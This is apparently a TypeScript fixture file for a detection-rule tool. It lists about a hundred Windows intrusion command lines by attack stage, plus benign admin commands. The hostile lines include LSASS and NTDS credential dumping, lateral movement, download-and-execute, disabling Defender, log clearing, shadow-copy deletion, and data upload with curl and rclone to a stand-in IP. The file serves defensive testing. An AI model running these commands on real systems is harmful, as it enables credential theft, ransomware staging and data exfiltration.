/**
 * Typical Windows intrusion command lines as public DFIR reports quote them, written for Huntforge from tradecraft
 * knowledge (hosts, accounts and file names are made up; addresses are documentation ranges). Each is a behaviour a
 * detection engineer writes a process_creation rule for: the spec (intrusion-commands.spec.ts) and the bench
 * (tools/bench/intrusion-commands.ts) embed each in a short article and check that some generated rule fires on it.
 */
export interface IntrusionCommand {
  /** The tactic the line serves, to read the coverage by stage of an intrusion. */
  stage: 'discovery' | 'credentials' | 'lateral' | 'execution' | 'persistence' | 'evasion' | 'impact' | 'exfiltration' | 'access';
  line: string;
}

export const INTRUSION_COMMANDS: readonly IntrusionCommand[] = [
  // Discovery: the domain's trusts, controllers and privileged groups, as ransomware affiliates list them first.
  { stage: 'discovery', line: 'nltest /domain_trusts /all_trusts' },
  { stage: 'discovery', line: 'nltest /dclist:corp.local' },
  { stage: 'discovery', line: 'net group "domain admins" /domain' },
  { stage: 'discovery', line: 'net group "Enterprise Admins" /domain' },
  { stage: 'discovery', line: 'AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem' },
  { stage: 'discovery', line: 'adfind.exe -gcb -sc trustdmp' },
  { stage: 'discovery', line: 'net view /all /domain' },
  { stage: 'discovery', line: 'whoami /all' },
  { stage: 'discovery', line: 'cmdkey /list' },
  { stage: 'discovery', line: 'nslookup -type=SRV _ldap._tcp.dc._msdcs.corp.local' },
  { stage: 'discovery', line: 'SharpHound.exe -c All --zipfilename loot.zip' },
  {
    stage: 'discovery',
    line: 'netscan.exe /hide /auto:"C:\\ProgramData\\result.xml" /config:netscan.xml /range:10.0.0.1-10.0.0.254',
  },
  { stage: 'discovery', line: '"C:\\Users\\svc\\Downloads\\Advanced_IP_Scanner_2.5.exe" /portable "C:\\Users\\svc\\Desktop" /lng en_us' },
  { stage: 'discovery', line: 'powershell.exe -c "Get-ADComputer -Filter * -Properties * | Select-Object Name,IPv4Address"' },
  { stage: 'discovery', line: 'query user' },
  { stage: 'discovery', line: 'net share' },
  // Credential access.
  { stage: 'credentials', line: 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full' },
  { stage: 'credentials', line: 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q' },
  { stage: 'credentials', line: 'reg save HKLM\\SAM C:\\ProgramData\\sam.save' },
  { stage: 'credentials', line: 'reg save HKLM\\SYSTEM C:\\ProgramData\\sys.save' },
  { stage: 'credentials', line: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit' },
  { stage: 'credentials', line: 'Rubeus.exe kerberoast /outfile:C:\\ProgramData\\hashes.txt' },
  { stage: 'credentials', line: 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp' },
  { stage: 'credentials', line: 'vssadmin create shadow /for=C:' },
  {
    stage: 'credentials',
    line: 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
  },
  // Lateral movement and remote execution.
  { stage: 'lateral', line: 'wmic /node:10.0.0.5 process call create "cmd /c C:\\Windows\\Temp\\b.bat"' },
  { stage: 'lateral', line: 'psexec.exe \\\\10.0.0.12 -accepteula -s -d cmd /c C:\\PerfLogs\\run.bat' },
  { stage: 'lateral', line: 'sc \\\\10.0.0.7 create updsvc binPath= "C:\\Windows\\Temp\\svc.exe" start= auto' },
  { stage: 'lateral', line: 'net use \\\\10.0.0.5\\C$ /user:CORP\\backupadm Summer2024!' },
  { stage: 'lateral', line: 'mstsc.exe /v:10.0.0.20' },
  { stage: 'lateral', line: 'winrs -r:fs01 cmd /c C:\\ProgramData\\p.bat' },
  // Execution and delivery.
  {
    stage: 'execution',
    line: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  },
  { stage: 'execution', line: 'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\a.ps1' },
  { stage: 'execution', line: 'mshta http://198.51.100.4/a.hta' },
  { stage: 'execution', line: 'regsvr32 /s /n /u /i:http://198.51.100.4/file.sct scrobj.dll' },
  { stage: 'execution', line: 'bitsadmin /transfer job /download /priority high http://198.51.100.4/a.exe C:\\Users\\Public\\a.exe' },
  { stage: 'execution', line: 'certutil -urlcache -f http://198.51.100.4/a.exe C:\\Users\\Public\\a.exe' },
  { stage: 'execution', line: 'cmd.exe /c ping 127.0.0.1 -n 5 > nul & del C:\\Users\\Public\\a.exe' },
  { stage: 'execution', line: 'rundll32.exe C:\\ProgramData\\wsx.dll,StartW' },
  // Persistence and accounts.
  { stage: 'persistence', line: 'net user admin P@ssw0rd123 /add' },
  { stage: 'persistence', line: 'net localgroup administrators admin /add' },
  {
    stage: 'persistence',
    line: 'schtasks /create /tn "WindowsUpdateCheck" /tr "C:\\ProgramData\\upd.exe" /sc onlogon /ru SYSTEM /f',
  },
  {
    stage: 'persistence',
    line: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater /t REG_SZ /d "C:\\ProgramData\\upd.exe" /f',
  },
  {
    stage: 'persistence',
    line: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
  },
  {
    stage: 'persistence',
    line: 'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389',
  },
  // Remote access and tunnelling.
  { stage: 'access', line: 'AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent' },
  { stage: 'access', line: 'ngrok.exe tcp 3389' },
  { stage: 'access', line: 'plink.exe -ssh -R 0.0.0.0:8080:127.0.0.1:3389 tunnel@198.51.100.9 -pw Tunn3l!' },
  {
    stage: 'access',
    line: 'netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.0.3',
  },
  // Defence evasion.
  { stage: 'evasion', line: 'wevtutil cl security' },
  { stage: 'evasion', line: 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true' },
  { stage: 'evasion', line: 'powershell.exe Add-MpPreference -ExclusionPath C:\\ProgramData' },
  { stage: 'evasion', line: 'taskkill /f /im sqlservr.exe' },
  { stage: 'evasion', line: 'sc config WinDefend start= disabled' },
  { stage: 'evasion', line: 'net stop "Veeam Backup Catalog Data Service" /y' },
  { stage: 'evasion', line: 'attrib +h +s C:\\ProgramData\\upd.exe' },
  { stage: 'evasion', line: 'fsutil behavior set SymlinkEvaluation R2L:1 R2R:1' },
  // Impact: the ransomware's staging.
  { stage: 'impact', line: 'vssadmin delete shadows /all /quiet' },
  { stage: 'impact', line: 'wmic shadowcopy delete' },
  { stage: 'impact', line: 'bcdedit /set {default} recoveryenabled no' },
  { stage: 'impact', line: 'wbadmin delete catalog -quiet' },
  { stage: 'impact', line: 'icacls "C:\\*" /grant Everyone:F /T /C /Q' },
  // Exfiltration and staging.
  {
    stage: 'exfiltration',
    line: 'rclone.exe copy \\\\fs01\\share mega:bk -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12',
  },
  { stage: 'exfiltration', line: '7z.exe a -pInf3cted -mhe=on C:\\ProgramData\\data.7z \\\\fs01\\Finance' },
  { stage: 'exfiltration', line: '"C:\\Program Files\\WinRAR\\Rar.exe" a -hpS3cr3t -m5 C:\\Users\\Public\\d.rar \\\\fs01\\HR' },
  { stage: 'exfiltration', line: 'curl.exe -k -T C:\\ProgramData\\data.7z https://198.51.100.4/upload' },

  // The same stages as reports quote them besides: other spellings, other tools of the same step.
  { stage: 'discovery', line: 'nltest /domain_trusts' },
  { stage: 'discovery', line: 'net group "domain computers" /domain' },
  { stage: 'discovery', line: 'net accounts /domain' },
  { stage: 'discovery', line: 'setspn -T corp.local -Q */*' },
  { stage: 'discovery', line: 'dsquery * -filter "(objectClass=trustedDomain)" -attr *' },
  { stage: 'discovery', line: 'wmic computersystem get domain' },
  { stage: 'discovery', line: 'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName' },
  { stage: 'discovery', line: 'findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml' },
  { stage: 'discovery', line: 'reg query "HKCU\\Software\\SimonTatham\\PuTTY\\Sessions"' },
  { stage: 'discovery', line: 'powershell.exe -ep bypass -c "Import-Module .\\PowerView.ps1; Get-DomainComputer -Properties dnshostname"' },
  { stage: 'discovery', line: 'powershell.exe -c "Invoke-ShareFinder -CheckShareAccess"' },
  { stage: 'discovery', line: 'nbtscan.exe 10.0.0.0/24' },
  { stage: 'credentials', line: 'esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\ProgramData\\n.dit' },
  {
    stage: 'credentials',
    line: 'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\ProgramData\\ntds.dit',
  },
  { stage: 'credentials', line: 'reg query HKLM /f password /t REG_SZ /s' },
  {
    stage: 'credentials',
    line: 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.4/Invoke-Kerberoast.ps1\'); Invoke-Kerberoast -OutputFormat Hashcat"',
  },
  { stage: 'credentials', line: 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f' },
  { stage: 'lateral', line: 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.123 2>&1' },
  {
    stage: 'lateral',
    line: 'wmic /node:"10.0.0.8" /user:"CORP\\backupadm" /password:"Summer2024!" process call create "C:\\ProgramData\\p.exe"',
  },
  { stage: 'lateral', line: 'PsExec.exe -d -s -accepteula @C:\\ProgramData\\comps.txt -c C:\\ProgramData\\locker.exe' },
  { stage: 'lateral', line: 'copy C:\\ProgramData\\p.exe \\\\10.0.0.5\\C$\\ProgramData\\p.exe' },
  { stage: 'lateral', line: 'schtasks /run /s 10.0.0.5 /tn "WindowsUpdateCheck"' },
  { stage: 'lateral', line: 'powershell.exe Invoke-Command -ComputerName fs01 -ScriptBlock { C:\\ProgramData\\p.exe }' },
  {
    stage: 'execution',
    line: 'powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://127.0.0.1:41863/\'))"',
  },
  { stage: 'execution', line: 'regsvr32.exe C:\\ProgramData\\x86.dll' },
  { stage: 'execution', line: 'rundll32.exe C:\\Users\\Public\\lib.dll,DllRegisterServer' },
  { stage: 'execution', line: 'msiexec.exe /q /i http://198.51.100.4/setup.msi' },
  { stage: 'execution', line: 'wscript.exe C:\\Users\\svc\\AppData\\Local\\Temp\\invoice.js' },
  { stage: 'execution', line: 'cscript //nologo C:\\ProgramData\\run.vbs' },
  { stage: 'execution', line: 'powershell.exe Invoke-WebRequest -Uri http://198.51.100.4/a.exe -OutFile C:\\ProgramData\\a.exe' },
  { stage: 'persistence', line: 'net user /add helpdesk P@ssw0rd123 /domain' },
  {
    stage: 'persistence',
    line: 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon /v Userinit /t REG_SZ /d "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\upd.exe" /f',
  },
  { stage: 'persistence', line: 'sc create UpdaterSvc binPath= "C:\\ProgramData\\svc.exe" start= auto' },
  { stage: 'persistence', line: 'msiexec /i C:\\ProgramData\\AteraAgent.msi /qn IntegratorLogin=ops@example.org CompanyId=1' },
  { stage: 'access', line: 'cloudflared.exe tunnel run --token eyJhIjoiZXhhbXBsZSJ9' },
  { stage: 'access', line: 'cmd.exe /c echo Passw0rd! | C:\\ProgramData\\AnyDesk.exe --set-password' },
  { stage: 'evasion', line: 'netsh advfirewall set allprofiles state off' },
  { stage: 'evasion', line: 'netsh firewall set opmode disable' },
  { stage: 'evasion', line: 'for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1"' },
  { stage: 'evasion', line: 'wevtutil.exe cl "Windows PowerShell"' },
  { stage: 'evasion', line: '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All' },
  { stage: 'evasion', line: 'sc stop WinDefend' },
  { stage: 'evasion', line: 'taskkill /IM MsMpEng.exe /F' },
  { stage: 'evasion', line: 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f' },
  { stage: 'evasion', line: 'fsutil usn deletejournal /D C:' },
  { stage: 'impact', line: 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB' },
  { stage: 'impact', line: 'bcdedit /set {default} bootstatuspolicy ignoreallfailures' },
  { stage: 'impact', line: 'cipher /w:C:' },
  { stage: 'impact', line: 'powershell.exe -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"' },
  { stage: 'impact', line: 'C:\\ProgramData\\locker.exe -path \\\\fs01\\share -threads 8' },
  { stage: 'exfiltration', line: 'rclone.exe --config C:\\ProgramData\\rclone.conf copy \\\\fs01\\Finance remote:exfil' },
  { stage: 'exfiltration', line: 'robocopy \\\\fs01\\HR C:\\ProgramData\\stage /E /MT:16' },
  { stage: 'exfiltration', line: 'curl.exe -F "file=@C:\\ProgramData\\data.zip" https://198.51.100.4/up.php' },
  { stage: 'exfiltration', line: 'WinSCP.exe /command "open sftp://u:p@198.51.100.4" "put C:\\ProgramData\\data.zip" exit' },
];

/**
 * Lines no rule should be written for: an administrator's everyday commands, and the analyst's own investigation
 * steps as a report introduces them. A rule on them fires all day on every network.
 */
export const NOT_INTRUSION: readonly { line: string; leadIn: string }[] = [
  { leadIn: 'We ran the following command to hash the sample:', line: 'certutil -hashfile C:\\samples\\loader.exe SHA256' },
  { leadIn: 'We used the following query to review logons:', line: 'Get-WinEvent -LogName Security -MaxEvents 50' },
  { leadIn: 'Analysts can use the following command to check the sample:', line: 'sigcheck64.exe -a C:\\samples\\loader.exe' },
  // What SigmaHQ rates low or keys on nothing, and every helpdesk runs: the project's benign baseline holds them.
  { leadIn: 'The actor then listed the local administrators:', line: 'net localgroup administrators' },
  { leadIn: 'The actor then read the network settings:', line: 'ipconfig /all' },
  { leadIn: 'The actor then listed the processes:', line: 'tasklist /v' },
  { leadIn: 'The actor then listed the connections:', line: 'netstat -ano' },
  { leadIn: 'The actor then changed directory:', line: 'cd C:\\Users\\Public' },
  { leadIn: 'The actor then listed the folder:', line: 'dir' },
];
